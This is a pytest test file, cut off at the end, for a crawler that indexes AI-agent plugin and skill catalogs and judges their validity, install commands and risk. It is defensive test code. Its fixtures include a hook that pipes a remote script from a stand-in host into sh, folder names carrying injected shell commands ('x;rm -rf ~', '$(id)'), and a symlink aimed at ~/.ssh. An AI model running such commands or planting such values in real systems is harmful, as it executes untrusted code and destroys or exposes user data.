"""Repositories with Codex's or Cursor's catalog and none of Claude Code's (sources/other.py):
one record per entry, that client's verdict, ids that never collide with Claude's, and every
entry of every format accounted for."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from agentops_index.bundles.fill import own_problem
from agentops_index.bundles.workflows import load_templates
from agentops_index.crawl import crawl_local
from agentops_index.search.records import project, works_in
from agentops_index.snapshot import store
from agentops_index.snapshot.categories import load_taxonomy
from agentops_index.snapshot.models import ClientCount
from agentops_index.sources.standalone import install
from tests.oracle import FORMATS

REPO = Path(__file__).resolve().parents[1]
TAXONOMY = load_taxonomy(REPO / "data" / "categories.toml")


def write(path: Path, value: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(value))


def codex_repo(root: Path) -> None:
    write(
        root / ".agents" / "plugins" / "marketplace.json",
        {
            "name": "kit",
            "owner": {"name": "Octo"},
            "plugins": [
                {"name": "lint", "source": {"source": "local", "path": "./plugins/lint"}, "category": "Coding"},
                {"name": "bare", "source": {"source": "local", "path": "plugins/bare"}},  # Codex drops it: no "./"
                {"name": "renamed", "source": {"source": "local", "path": "./plugins/renamed"}},
                {"name": "remote", "source": {"source": "url", "url": "https://example.org/remote.git"}},
            ],
        },
    )
    write(
        root / "plugins" / "lint" / ".codex-plugin" / "plugin.json",
        {"name": "lint", "version": "1.0.0", "interface": {"displayName": "Lint Kit", "shortDescription": "Fixes lint errors."}},
    )
    write(root / "plugins" / "lint" / "skills" / "fix" / "SKILL.md", "---\nname: fix\ndescription: Fix lint errors\n---\nBody\n")
    write(root / "plugins" / "renamed" / ".codex-plugin" / "plugin.json", {"name": "other-name", "version": "1.0.0"})
    # Cursor lists the same lint folder (a view) and a folder of its own (a Cursor record).
    write(
        root / ".cursor-plugin" / "marketplace.json",
        {
            "name": "kit",
            "owner": {"name": "Octo"},
            "plugins": [{"name": "lint", "source": "plugins/lint"}, {"name": "solo", "source": "plugins/solo"}],
        },
    )
    write(root / "plugins" / "lint" / ".cursor-plugin" / "plugin.json", {"name": "lint"})


def test_a_repository_with_only_a_codex_catalog_is_a_codex_marketplace(tmp_path: Path) -> None:
    codex_repo(tmp_path / "octo__kit")
    snapshot = crawl_local([tmp_path], TAXONOMY).snapshot
    records = {p.id: p for p in snapshot.plugins}
    # One record per entry with a string name (Claude's record rule), ids that say whose catalog.
    assert sorted(records) == [
        "codex:bare@octo/kit",
        "codex:lint@octo/kit",
        "codex:remote@octo/kit",
        "codex:renamed@octo/kit",
        "cursor:solo@octo/kit",
    ]
    lint = records["codex:lint@octo/kit"]
    assert (lint.client, lint.valid, lint.errors, lint.counts.skills) == ("codex", True, 0, 1)
    assert (lint.untrusted.display_name and lint.untrusted.display_name.text) == "Lint Kit"
    assert lint.untrusted.description and lint.untrusted.description.text == "Fixes lint errors."
    assert lint.install.plugin_install is None and lint.install.note and "Codex installs it" in lint.install.note
    assert [(v.client, v.valid) for v in lint.clients] == [("codex", True), ("cursor", True)]
    assert lint.clients[0].install == ["codex plugin marketplace add octo/kit", "codex plugin add lint@kit"]
    assert works_in(lint) == ["codex", "cursor"]  # never "claude": no Claude Code catalog lists it
    # Codex's refusals are the records' errors, in its words.
    bare, renamed = records["codex:bare@octo/kit"], records["codex:renamed@octo/kit"]
    assert not bare.valid and "must start with './'" in bare.findings[0].message and bare.findings[0].code == "codex.refused"
    assert bare.clients[0].install == []  # Codex does not list it: no command would find it
    assert not renamed.valid and "does not match marketplace plugin name 'renamed'" in renamed.findings[0].message
    remote = records["codex:remote@octo/kit"]
    assert remote.valid and remote.resolved.state == "not_fetched" and remote.clients[0].valid is None
    # The catalog is the marketplace; its entries are recorded or skipped, per client.
    (market,) = snapshot.marketplaces
    assert (market.id, market.client, market.valid, market.entries, len(market.plugin_ids)) == ("octo/kit", "codex", True, 4, 4)
    assert market.other_ids == ["cursor:solo@octo/kit"] and records["cursor:solo@octo/kit"].resolved.state == "missing"
    (status,) = snapshot.sources
    assert status.state == "fresh" and (status.entries, status.recorded, status.skipped) == (5, 5, 0)
    assert status.clients == {
        "codex": ClientCount(entries=4, recorded=4, skipped=0),
        "cursor": ClientCount(entries=2, recorded=2, skipped=0),
    }
    assert snapshot.totals.entries == snapshot.totals.recorded + snapshot.totals.skipped
    # Bundles and the Claude commands keep to what Claude Code installs.
    record = project(lint, market)
    assert record["home"] == "codex" and record["install"] == []
    template = next(t for t in load_templates() if t.id == "quality-gate")
    assert own_problem(record, template) == "not in a Claude Code catalog (codex's)"


def test_a_catalog_codex_refuses_leaves_every_record_invalid_and_skips_what_has_no_name(tmp_path: Path) -> None:
    root = tmp_path / "octo__bad"
    write(
        root / ".agents" / "plugins" / "marketplace.json",
        {
            "name": "bad",
            "plugins": [
                {"name": "fine", "source": {"source": "local", "path": "./fine"}},
                "not an entry",
                {"name": 7, "source": {"source": "local", "path": "./seven"}},
            ],
        },
    )
    write(root / "fine" / ".codex-plugin" / "plugin.json", {"name": "fine", "version": "1.0.0"})
    snapshot = crawl_local([tmp_path], TAXONOMY).snapshot
    (plugin,) = snapshot.plugins
    assert plugin.id == "codex:fine@octo/bad" and not plugin.valid
    assert "plugins[1] is not an object" in plugin.findings[0].message and plugin.clients[0].install == []
    (market,) = snapshot.marketplaces
    assert not market.valid and market.findings[0].code == "codex.refused"
    assert [(s.index, s.reason) for s in market.skipped] == [(1, "entry_not_object"), (2, "name_not_string")]
    assert snapshot.sources[0].clients == {"codex": ClientCount(entries=3, recorded=1, skipped=2)}


def test_a_cursor_catalog_alone_gives_cursor_records_that_codex_also_reads(tmp_path: Path) -> None:
    root = tmp_path / "octo__cur"
    write(
        root / ".cursor-plugin" / "marketplace.json",
        {
            "name": "cur",
            "owner": {"name": "Octo"},
            "plugins": [{"name": "good", "source": "good"}, {"name": "gone", "source": "gone"}],
        },
    )
    write(root / "good" / ".cursor-plugin" / "plugin.json", {"name": "good", "description": "A good one."})
    snapshot = crawl_local([tmp_path], TAXONOMY).snapshot
    records = {p.id: p for p in snapshot.plugins}
    assert sorted(records) == ["cursor:gone@octo/cur", "cursor:good@octo/cur"]
    good, gone = records["cursor:good@octo/cur"], records["cursor:gone@octo/cur"]
    assert good.valid and good.client == "cursor" and good.untrusted.description
    # Codex reads Cursor's catalog when it has none of its own: that view is there too.
    assert [(v.client, v.catalog) for v in good.clients] == [
        ("cursor", ".cursor-plugin/marketplace.json"),
        ("codex", ".cursor-plugin/marketplace.json"),
    ]
    assert not gone.valid and 'source directory "gone" does not exist' in gone.findings[0].message
    assert snapshot.marketplaces[0].client == "cursor"


def test_entries_past_what_cursors_rules_were_applied_to_are_recorded_not_judged(tmp_path: Path, monkeypatch: Any) -> None:
    from agentops_index.manifest import cursor

    monkeypatch.setattr(cursor, "MAX_ENTRIES", 2)
    root = tmp_path / "octo__big"
    write(
        root / ".cursor-plugin" / "marketplace.json",
        {"name": "big", "owner": {"name": "Octo"}, "plugins": [{"name": f"p{i}", "source": "p"} for i in range(4)]},
    )
    write(root / "p" / ".cursor-plugin" / "plugin.json", {"name": "p0"})
    snapshot = crawl_local([tmp_path], TAXONOMY).snapshot
    verdicts = {p.id: p.clients[0].valid for p in snapshot.plugins}
    assert verdicts == {
        "cursor:p0@octo/big": True,
        "cursor:p1@octo/big": False,
        "cursor:p2@octo/big": None,
        "cursor:p3@octo/big": None,
    }
    assert "not judged: past the first 2 entries" in snapshot.plugins[3].clients[0].untrusted.problems[0].text
    assert snapshot.sources[0].clients["cursor"] == ClientCount(entries=4, recorded=4, skipped=0)


def test_a_snapshot_with_other_clients_records_reads_back_and_its_pages_say_whose(tmp_path: Path) -> None:
    from agentops_index.build import build

    codex_repo(tmp_path / "in" / "octo__kit")
    path = tmp_path / "snapshot.json"
    crawl_local([tmp_path / "in"], TAXONOMY).write(path)
    loaded = store.load(path)
    assert {p.client for p in loaded.plugins} == {"codex", "cursor"} and loaded.marketplaces[0].client == "codex"
    build(path, tmp_path / "site", search=False)
    page = (tmp_path / "site" / "plugins" / "octo" / "kit" / "codex-lint" / "index.html").read_text()
    assert "A Codex plugin: no Claude Code catalog lists it" in page and "Passes Claude Code" not in page
    assert "codex plugin add lint@kit" in page
    market = (tmp_path / "site" / "marketplaces" / "octo" / "kit" / "index.html").read_text()
    assert "Add it to Codex" in market and "codex plugin marketplace add octo/kit" in market


def test_a_version_4_status_reads_with_its_unrecorded_entries_as_skipped() -> None:
    assert ClientCount.model_validate({"entries": 5, "recorded": 2}) == ClientCount(entries=5, recorded=2, skipped=3)


@pytest.fixture(scope="module")
def formats_snapshot() -> Any:
    if not (FORMATS / "marketplaces").is_dir():
        pytest.skip(f"the formats corpus is not at {FORMATS} (it lives in ../shared/corpus-formats)")
    return crawl_local([FORMATS / "marketplaces"], TAXONOMY).snapshot


def test_every_entry_of_every_format_is_recorded_or_skipped_on_the_formats_corpus(formats_snapshot: Any) -> None:
    """Per source and per client, entries = recorded + skipped; the totals hold the same identity;
    and no folder of a repository has records from two clients' catalogs (Claude's own catalog
    may list one folder twice, picking different skills: two entries, two records)."""
    snapshot = formats_snapshot
    for status in snapshot.sources:
        for client, count in status.clients.items():
            assert count.entries == count.recorded + count.skipped, (status.id, client)
    assert snapshot.totals.entries == snapshot.totals.recorded + snapshot.totals.skipped
    folders: dict[tuple[str, str], str] = {}
    for plugin in snapshot.plugins:
        if plugin.resolved.state == "local":
            key = (plugin.marketplace, str(plugin.resolved.plugin_dir))
            assert folders.setdefault(key, plugin.client) == plugin.client, (plugin.id, key)
    homes = {p.client for p in snapshot.plugins}
    assert homes == {"claude", "codex", "cursor", "skill", "agent-plugins"}
    # Codex-only repositories of the corpus are marketplaces now (openai/plugins lists 180 entries).
    markets = {m.id: m for m in snapshot.marketplaces}
    assert markets["openai/plugins"].client == "codex" and len(markets["openai/plugins"].plugin_ids) == 180
    assert markets["cursor/plugins"].client == "cursor"


def test_codex_records_agree_with_the_codex_cli_on_every_catalog_it_loaded_or_refused(formats_snapshot: Any) -> None:
    """For each repository whose records come from its Codex catalog: a catalog the CLI refused
    leaves every record invalid; otherwise each entry the CLI tried to install is valid exactly
    when ``codex plugin add`` succeeded (the oracle files are the truth, as Claude Code's are)."""
    records = {p.id: p for p in formats_snapshot.plugins}
    markets = {m.id.lower(): m for m in formats_snapshot.marketplaces}
    compared = 0
    for path in sorted((FORMATS / "oracle").glob("*.codex.json")):
        folder = path.name.removesuffix(".codex.json")
        market = markets.get(folder.replace("__", "/", 1).lower())
        if market is None or market.client != "codex":
            continue
        verdict = json.loads(path.read_text())
        mine = [records[i] for i in market.plugin_ids]
        if verdict["exit"] != 0:
            assert mine and not any(p.valid for p in mine), folder
            compared += len(mine)
            continue
        for step in verdict["steps"]:
            match = re.search(r" plugin add (\S+)@", step["command"])
            if match:
                record = records[f"codex:{match.group(1)}@{market.id}"]
                assert record.valid == (step["exit"] == 0), (record.id, step["stderr"][:200])
                compared += 1
    assert compared >= 300


# --- found by a review of the first version ---------------------------------------------------


def test_a_claude_listing_stays_the_original_of_a_plugin_another_clients_catalog_also_lists(tmp_path: Path) -> None:
    """The author's Codex catalog and someone's Claude catalog list one plugin: the Claude listing
    is the original (bundles and the Claude commands offer only Claude listings), the Codex
    record its copy."""
    root = tmp_path / "octo__figma"
    write(
        root / ".agents" / "plugins" / "marketplace.json",
        {"name": "figma", "plugins": [{"name": "figma", "source": {"source": "local", "path": "./plugins/figma"}}]},
    )
    write(
        root / "plugins" / "figma" / ".codex-plugin" / "plugin.json",
        {"name": "figma", "version": "1.0.0", "description": "Design handoff from Figma files to code."},
    )
    write(
        tmp_path / "other__market" / ".claude-plugin" / "marketplace.json",
        {
            "name": "market",
            "owner": {"name": "o"},
            "plugins": [
                {
                    "name": "figma",
                    "source": {"source": "github", "repo": "octo/figma"},
                    "description": "Design handoff from Figma files to code.",
                }
            ],
        },
    )
    plugins = {p.id: p for p in crawl_local([tmp_path], TAXONOMY).snapshot.plugins}
    assert plugins["figma@other/market"].canonical_id == "figma@other/market"
    assert plugins["codex:figma@octo/figma"].canonical_id == "figma@other/market"


def test_same_name_codex_entries_keep_their_own_folders_and_verdicts(tmp_path: Path) -> None:
    root = tmp_path / "octo__twice"
    write(
        root / ".agents" / "plugins" / "marketplace.json",
        {
            "name": "twice",
            "plugins": [
                {"name": "a", "source": {"source": "local", "path": "plugins/bad"}},
                {"name": "a", "source": {"source": "local", "path": "./plugins/good"}},
            ],
        },
    )
    write(root / "plugins" / "good" / ".codex-plugin" / "plugin.json", {"name": "a", "version": "1.0.0"})
    plugins = {p.id: p for p in crawl_local([tmp_path], TAXONOMY).snapshot.plugins}
    first, second = plugins["codex:a@octo/twice"], plugins["codex:a@octo/twice#1"]
    assert not first.valid and "must start with './'" in first.findings[0].message and first.clients[0].install == []
    assert second.valid and second.resolved.plugin_dir == "plugins/good"


def test_unjudged_entries_do_not_pass_and_a_missing_folder_gets_no_view(tmp_path: Path, monkeypatch: Any) -> None:
    """An entry past the cap of what Codex's rules are applied to is not judged, so it does not
    pass (a git source is judged by its entry, as Claude Code's remote ones are: the first test's
    "remote"). A folder both catalogs name but that is not there has one record, no view, and the
    other entry skipped."""
    from agentops_index.manifest import codex

    monkeypatch.setattr(codex, "MAX_ENTRIES", 1)
    root = tmp_path / "octo__cap"
    write(
        root / ".agents" / "plugins" / "marketplace.json",
        {
            "name": "cap",
            "plugins": [
                {"name": "gone", "source": {"source": "local", "path": "./gone"}},
                {"name": "later", "source": {"source": "local", "path": "./later"}},
            ],
        },
    )
    write(root / ".cursor-plugin" / "marketplace.json", {"name": "cap", "plugins": [{"name": "gone", "source": "gone"}]})
    snapshot = crawl_local([tmp_path], TAXONOMY).snapshot
    plugins = {p.id: p for p in snapshot.plugins}
    later = plugins["codex:later@octo/cap"]
    assert not later.valid and later.findings[0].code == "codex.not_judged"
    gone = plugins["codex:gone@octo/cap"]
    assert gone.resolved.state == "missing" and [v.client for v in gone.clients] == ["codex"]
    assert snapshot.sources[0].clients["cursor"] == ClientCount(entries=1, recorded=0, skipped=1)


def test_a_linked_codex_catalog_is_refused_not_followed(tmp_path: Path) -> None:
    root = tmp_path / "octo__link"
    write(root / ".cursor-plugin" / "marketplace.json", {"name": "link", "plugins": [{"name": "p", "source": "p"}]})
    (root / ".agents" / "plugins").mkdir(parents=True)
    (root / ".agents" / "plugins" / "marketplace.json").symlink_to(root / ".cursor-plugin" / "marketplace.json")
    snapshot = crawl_local([tmp_path], TAXONOMY).snapshot
    (status,) = snapshot.sources
    assert status.state == "invalid" and status.last_error and "symbolic link" in status.last_error
    assert snapshot.plugins == []


def test_a_source_id_given_twice_is_read_once(tmp_path: Path) -> None:
    for where in ("one", "two"):
        codex_repo(tmp_path / where / "octo__kit")
    codex_repo(tmp_path / "two" / "Octo__Kit")
    snapshot = crawl_local([tmp_path / "one", tmp_path / "two"], TAXONOMY).snapshot
    assert [m.id for m in snapshot.marketplaces] == ["octo/kit"]
    assert (
        sorted(s.last_error or "" for s in snapshot.sources if s.state == "invalid")
        == ["duplicate_source: an earlier --from-dir already gave this id"] * 2
    )


@pytest.mark.parametrize(
    "catalog", [".claude-plugin/marketplace.json", ".agents/plugins/marketplace.json", ".cursor-plugin/marketplace.json"]
)
def test_a_lone_surrogate_in_a_name_never_stops_the_crawl(tmp_path: Path, catalog: str) -> None:
    """'\\ud800' with no partner parsed to a string no UTF-8 output can hold: the record's id
    crashed the crawl. It reads as U+FFFD, as a browser shows it."""
    root = tmp_path / "octo__odd"
    source: Any = (
        {"source": "local", "path": "./p"} if catalog.startswith(".agents") else ("p" if catalog.startswith(".cursor") else "./p")
    )
    (root / Path(catalog).parent).mkdir(parents=True)
    body = {"name": "odd", "owner": {"name": "o"}, "plugins": [{"name": "a@@", "source": source}]}
    (root / catalog).write_text(json.dumps(body).replace("@@", "\\ud800"))
    write(root / "p" / ".claude-plugin" / "plugin.json", {"name": "a"})
    result = crawl_local([tmp_path], TAXONOMY)
    result.write(tmp_path / "snapshot.json")
    assert [p.id.split("@")[0].split(":")[-1] for p in result.snapshot.plugins] == ["a\ufffd"]


def test_claude_only_answers_are_as_full_as_without_other_clients_records(formats_snapshot: Any, tmp_path: Path) -> None:
    """Bundles, analyze-plugins and discover offer only Claude Code listings. Other clients'
    records must not crowd them out: the bundles fill the stages the same snapshot without those
    records fills, and the published comparison still holds its 50 plugins. (Not always with the
    same picks: more records change the words' weights in the search, so the data-pipeline bundle
    picks other Claude plugins when the skills are there.)"""
    from agentops_index.assistant.assist import analyze
    from agentops_index.bundles.fill import build_bundles
    from agentops_index.search.session import open_searcher

    with_others = tmp_path / "with" / "latest.json"
    without = tmp_path / "without" / "latest.json"
    for path, snapshot in (
        (with_others, formats_snapshot),
        (without, formats_snapshot.model_copy(update={"plugins": [p for p in formats_snapshot.plugins if p.client == "claude"]})),
    ):
        path.parent.mkdir()
        path.write_bytes(store.dumps(snapshot))

    def picks(path: Path) -> tuple[dict[str, int], int, set[str]]:
        with open_searcher(str(path)) as s:
            bundles = build_bundles(s, load_templates(), "https://example.org/")
            filled = {b.id: len(b.plugins) for b, _ in bundles}
            ids = {p.id for b, _ in bundles for p in b.plugins}
            return filled, len(analyze(s, [b for b, _ in bundles], 50)["plugins"]), ids

    # Not the same picks: other records change the words' weights. The same stages filled, though,
    # and only with Claude Code listings.
    ours, theirs = picks(with_others), picks(without)
    assert ours[0] == theirs[0] and all(not pid.startswith(("codex:", "cursor:", "skill:")) for pid in ours[2])
    valid = sum(1 for p in formats_snapshot.plugins if p.client == "claude" and p.valid and p.canonical_id in (None, p.id))
    assert ours[1] == theirs[1] == min(50, valid)


# --- standalone Agent Skills (sources/standalone.py) ------------------------------------------


def text(path: Path, body: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(body)


def test_a_repository_of_skills_with_no_catalog_is_a_marketplace_of_skill_records(tmp_path: Path) -> None:
    root = tmp_path / "octo__skills"
    text(root / "skills" / "good" / "SKILL.md", "---\nname: good\ndescription: Does good things.\n---\nBody\n")
    text(root / "skills" / "bad" / "SKILL.md", "---\nname: other\ndescription: Misnamed.\nmodel: x\n---\nBody\n")
    text(root / "skills" / ".hidden" / "odd" / "SKILL.md", "---\nname: odd\ndescription: Nested.\n---\n")
    snapshot = crawl_local([tmp_path], TAXONOMY).snapshot
    records = {p.id: p for p in snapshot.plugins}
    assert sorted(records) == ["skill:bad@octo/skills", "skill:good@octo/skills", "skill:odd@octo/skills"]
    good, bad = records["skill:good@octo/skills"], records["skill:good@octo/skills".replace("good", "bad")]
    assert good.valid and good.client == "skill" and good.untrusted.description
    assert good.untrusted.description.text == "Does good things." and good.counts.skills == 1
    (view,) = good.clients
    assert view.client == "skill" and view.valid and view.catalog == "skills/good/SKILL.md"
    clone = 'd=$(mktemp -d) && git clone --depth 1 https://github.com/octo/skills.git "$d/r"'
    assert view.install == [
        f'{clone} && mkdir -p ~/.claude/skills && test ! -e ~/.claude/skills/good && cp -R "$d/r/skills/good" ~/.claude/skills/good  # Claude Code',
        f'{clone} && mkdir -p ~/.agents/skills && test ! -e ~/.agents/skills/good && cp -R "$d/r/skills/good" ~/.agents/skills/good  # Codex',
    ]
    assert not bad.valid and bad.clients[0].install == [] and all(f.code == "skill.invalid" for f in bad.findings)
    assert works_in(good) == ["skill"] and works_in(bad) == []
    (market,) = snapshot.marketplaces
    assert (market.client, market.entries, len(market.plugin_ids)) == ("skill", 3, 3)
    assert snapshot.sources[0].clients == {"skill": ClientCount(entries=3, recorded=3, skipped=0)}
    record = project(good, market)
    assert record["home"] == "skill" and record["clients"] == ["skill"]


def test_a_skill_folder_a_shell_would_misread_gets_no_command(tmp_path: Path) -> None:
    root = tmp_path / "octo__odd"
    for above in ("we ird", "x;rm -rf ~", "$(id)", "`id`", "-rf"):
        text(root / above / "ok" / "SKILL.md", "---\nname: ok\ndescription: Something odd above.\n---\n")
    plugins = crawl_local([tmp_path], TAXONOMY).snapshot.plugins
    assert len(plugins) == 5 and all(p.valid and p.clients[0].install == [] for p in plugins)


def test_a_skill_holding_a_symbolic_link_gets_no_copy_command(tmp_path: Path) -> None:
    """A copy would keep the link, pointing anywhere on the user's machine (``~/.ssh``)."""
    root = tmp_path / "octo__lnk"
    text(root / "skills" / "good" / "SKILL.md", "---\nname: good\ndescription: Reads ref/.\n---\n")
    (root / "skills" / "good" / "ref").symlink_to("../../../.ssh")
    (plugin,) = crawl_local([tmp_path], TAXONOMY).snapshot.plugins
    assert plugin.valid and plugin.clients[0].install == []
    assert "symbolic link" in plugin.clients[0].untrusted.problems[0].text


def test_skill_folders_that_cannot_be_records_are_counted_and_never_stop_the_crawl(tmp_path: Path, monkeypatch: Any) -> None:
    """A folder name that is not UTF-8 (it arrives with surrogate escapes, which no output can
    hold: it crashed the whole crawl) or holds a newline, and skills past the cap, are skipped
    and counted; a skill at the repository's root is a record named after it."""
    import os

    from agentops_index.manifest import skills

    monkeypatch.setattr(skills, "MAX_SKILLS", 3)
    root = tmp_path / "octo__mixed"
    text(root / "SKILL.md", "---\nname: mixed\ndescription: The repository is a skill.\n---\n")
    for name in ("a", "b", "c"):
        text(root / "skills" / name / "SKILL.md", f"---\nname: {name}\ndescription: One.\n---\n")
    os.makedirs(os.fsencode(root / "bad") + b"\xff")
    (Path(os.fsdecode(os.fsencode(root / "bad") + b"\xff")) / "SKILL.md").write_text("---\nname: x\ndescription: d\n---\n")
    text(root / "nl\nline" / "SKILL.md", "---\nname: x\ndescription: d\n---\n")
    snapshot = crawl_local([tmp_path], TAXONOMY).snapshot
    assert sorted(p.id for p in snapshot.plugins) == ["skill:a@octo/mixed", "skill:b@octo/mixed", "skill:mixed@octo/mixed"]
    assert snapshot.sources[0].clients == {"skill": ClientCount(entries=6, recorded=3, skipped=3)}
    root_skill = next(p for p in snapshot.plugins if p.id == "skill:mixed@octo/mixed")
    assert root_skill.clients[0].catalog == "SKILL.md"
    # Judged in the folder it is in (here "octo__mixed", not the repository's name "mixed", so the
    # reference validator refuses the name); a clone of the repository is copied whole, without .git.
    assert not root_skill.valid and "must match skill name 'mixed'" in root_skill.findings[0].message
    (line, _) = install("octo/mixed", "github", ".", "mixed")
    assert 'rm -rf "$d/r/.git" && ' in line and line.endswith('cp -R "$d/r" ~/.claude/skills/mixed  # Claude Code')


def test_a_query_file_home_this_reader_does_not_know_is_never_claude() -> None:
    from agentops_index.search.queryfile import READABLE_FORMATS, recap

    record = {k: v for k, v in project(*_one_record()).items()}
    record["home"] = "gemini"
    assert recap(record)["home"] == "other" and 3 in READABLE_FORMATS


def _one_record() -> tuple[Any, Any]:
    snapshot = store.load(REPO / "data" / "snapshots" / "latest.json")
    plugin = snapshot.plugins[0]
    return plugin, next(m for m in snapshot.marketplaces if m.id == plugin.marketplace)


def test_skill_records_agree_with_the_reference_validator_on_every_skills_repository(formats_snapshot: Any) -> None:
    """Each repository of the formats corpus with skills and no catalog is a marketplace of them,
    and each skill's verdict is the one ``skills-ref`` gave that folder (oracle/*.agentskills.json)."""
    markets = {m.id.lower(): m for m in formats_snapshot.marketplaces if m.client == "skill"}
    records = {p.id: p for p in formats_snapshot.plugins}
    compared = 0
    for market in markets.values():
        folder = market.id.replace("/", "__", 1)
        oracle = json.loads((FORMATS / "oracle" / f"{folder}.agentskills.json").read_text())
        verdicts = {r["dir"]: r["exit"] == 0 for r in oracle["results"]}
        mine = {records[pid].clients[0].catalog.removesuffix("/SKILL.md"): records[pid] for pid in market.plugin_ids}
        assert sorted(mine) == sorted(verdicts), market.id  # the same skill folders as the validator's run
        for where, record in mine.items():
            assert record.valid == verdicts[where], (record.id, record.clients[0].untrusted.problems)
            compared += 1
    assert len(markets) == 10 and compared == 120  # figma's skills are its Agent Plugins plugin's components


@pytest.mark.parametrize("name", ["kit", "octo__kit"])
def test_a_root_given_to_from_dir_with_another_clients_catalog_is_read(tmp_path: Path, name: str) -> None:
    """``crawl --from-dir`` of one Codex repository (not a folder of checkouts) reads it, as it
    reads a Claude marketplace root: ``local/<folder>``, or ``owner/repo`` for a checkout."""
    codex_repo(tmp_path / name)
    snapshot = crawl_local([tmp_path / name], TAXONOMY).snapshot
    (market,) = snapshot.marketplaces
    assert market.client == "codex" and len(market.plugin_ids) == 4
    assert (market.id, market.origin) == (("local/kit", "local") if name == "kit" else ("octo/kit", "github"))
    text(tmp_path / "skills-only" / "skills" / "one" / "SKILL.md", "---\nname: one\ndescription: A skill.\n---\n")
    (skill,) = crawl_local([tmp_path / "skills-only"], TAXONOMY).snapshot.plugins
    assert skill.id == "skill:one@local/skills-only" and skill.clients[0].install == []  # not on GitHub: no clone


def test_skills_beside_a_catalog_outside_its_plugins_are_records_and_counted(tmp_path: Path) -> None:
    """A marketplace repository that also keeps skills outside every plugin folder: each is a
    ``skill:`` record listed as the catalog's other ids, counted under "skill"; the skills inside
    a plugin stay its components."""
    root = tmp_path / "octo__mixed"
    catalog = {"name": "mixed", "owner": {"name": "o"}, "plugins": [{"name": "tool", "source": "./plugins/tool"}]}
    (root / ".claude-plugin").mkdir(parents=True)
    (root / ".claude-plugin" / "marketplace.json").write_text(json.dumps(catalog))
    # A skill elsewhere (a fixture, an example marketplace) is not a published skill of the repository.
    places = (
        ("plugins/tool/skills/inner", "inner"),
        ("skills/outer", "outer"),
        (".claude/skills/dev", "dev"),
        ("tests/data/skills/fx", "fx"),
    )
    for folder, name in places:
        (root / folder).mkdir(parents=True)
        (root / folder / "SKILL.md").write_text(f"---\nname: {name}\ndescription: The {name} skill.\n---\nbody\n")
    snapshot = crawl_local([tmp_path], TAXONOMY).snapshot
    ids = sorted(p.id for p in snapshot.plugins)
    assert ids == ["skill:dev@octo/mixed", "skill:outer@octo/mixed", "tool@octo/mixed"]
    (market,) = snapshot.marketplaces
    assert market.plugin_ids == ["tool@octo/mixed"] and sorted(market.other_ids) == [
        "skill:dev@octo/mixed",
        "skill:outer@octo/mixed",
    ]
    tool = next(p for p in snapshot.plugins if p.id == "tool@octo/mixed")
    assert tool.counts.skills == 1
    (status,) = snapshot.sources
    assert status.clients["skill"] == ClientCount(entries=2, recorded=2, skipped=0)
    assert status.entries == status.recorded + status.skipped == 3
    # A plugin at the repository's root reads every skill folder as its own: no skill record.
    catalog["plugins"] = [{"name": "all", "source": "./"}]
    (root / ".claude-plugin" / "marketplace.json").write_text(json.dumps(catalog))
    again = crawl_local([tmp_path], TAXONOMY).snapshot
    assert [p.id for p in again.plugins] == ["all@octo/mixed"] and "skill" not in again.sources[0].clients


def test_skills_beside_another_clients_catalog_are_records_too(tmp_path: Path) -> None:
    root = tmp_path / "octo__codexy"
    catalog = {"name": "codexy", "plugins": [{"name": "tool", "source": {"source": "local", "path": "./plugins/tool"}}]}
    (root / ".agents" / "plugins").mkdir(parents=True)
    (root / ".agents" / "plugins" / "marketplace.json").write_text(json.dumps(catalog))
    (root / "plugins" / "tool").mkdir(parents=True)
    (root / "skills" / "outer").mkdir(parents=True)
    (root / "skills" / "outer" / "SKILL.md").write_text("---\nname: outer\ndescription: The outer skill.\n---\nbody\n")
    snapshot = crawl_local([tmp_path], TAXONOMY).snapshot
    assert sorted(p.id for p in snapshot.plugins) == ["codex:tool@octo/codexy", "skill:outer@octo/codexy"]
    (market,) = snapshot.marketplaces
    assert market.client == "codex" and market.other_ids == ["skill:outer@octo/codexy"]
    (status,) = snapshot.sources
    assert status.clients["skill"] == ClientCount(entries=1, recorded=1, skipped=0) and status.recorded == 2


def test_a_cursor_plugins_hooks_and_mcp_json_are_read_as_cursor_reads_them(tmp_path: Path) -> None:
    """Cursor keeps MCP servers in mcp.json (no leading dot) and hooks in its own shape: a Cursor
    record's components and trust signals come from those, not from Claude Code's files."""
    root = tmp_path / "octo__cur"
    catalog = {"name": "cur", "plugins": [{"name": "tool", "source": "./tool"}]}
    (root / ".cursor-plugin").mkdir(parents=True)
    (root / ".cursor-plugin" / "marketplace.json").write_text(json.dumps(catalog))
    plugin = root / "tool"
    (plugin / ".cursor-plugin").mkdir(parents=True)
    (plugin / ".cursor-plugin" / "plugin.json").write_text(json.dumps({"name": "tool"}))
    (plugin / "hooks").mkdir()
    hooks = {
        "version": 1,
        "hooks": {"sessionStart": [{"command": "curl -s https://x.example/i.sh | sh"}], "stop": [{"command": "./s.sh"}]},
    }
    (plugin / "hooks" / "hooks.json").write_text(json.dumps(hooks))
    (plugin / "mcp.json").write_text(json.dumps({"mcpServers": {"srv": {"command": "npx", "args": ["-y", "some-server"]}}}))
    (record,) = crawl_local([tmp_path], TAXONOMY).snapshot.plugins
    assert record.id == "cursor:tool@octo/cur" and (record.counts.hooks, record.counts.mcp_servers) == (2, 1)
    assert record.risk == "high" and "runs a shell command on sessionStart" in record.capabilities


def test_cursor_records_of_the_formats_corpus_show_what_they_run(formats_snapshot: Any) -> None:
    records = {p.id: p for p in formats_snapshot.plugins}
    fastedge = records["cursor:gcore-fastedge@G-Core/fastedge-plugin"]  # its mcp.json runs docker
    assert fastedge.counts.mcp_servers == 1 and fastedge.risk == "high"
    learning = records["cursor:continual-learning@cursor/plugins"]  # a stop hook in Cursor's shape
    assert learning.counts.hooks == 1 and "runs a shell command on stop" in learning.capabilities


def test_search_shows_the_commands_of_the_client_asked_and_a_query_file_keeps_only_ours(formats_snapshot: Any) -> None:
    """A result installs in the client the search asks for (its --client), else in the client
    whose catalog gives it: Codex's commands for a Codex record, the copy lines for a skill. A
    downloaded query file keeps only lines of the shapes we write."""
    from agentops_index.search.hits import install_for
    from agentops_index.search.queryfile import client_line, read_query_file
    from agentops_index.search.records import project_all, query_file_bytes

    records = {r["id"]: r for r in project_all(formats_snapshot)}
    codex = records["codex:axiom@CharlesWiltgen/Axiom"]
    assert install_for(codex, None) == (
        "codex plugin marketplace add CharlesWiltgen/Axiom",
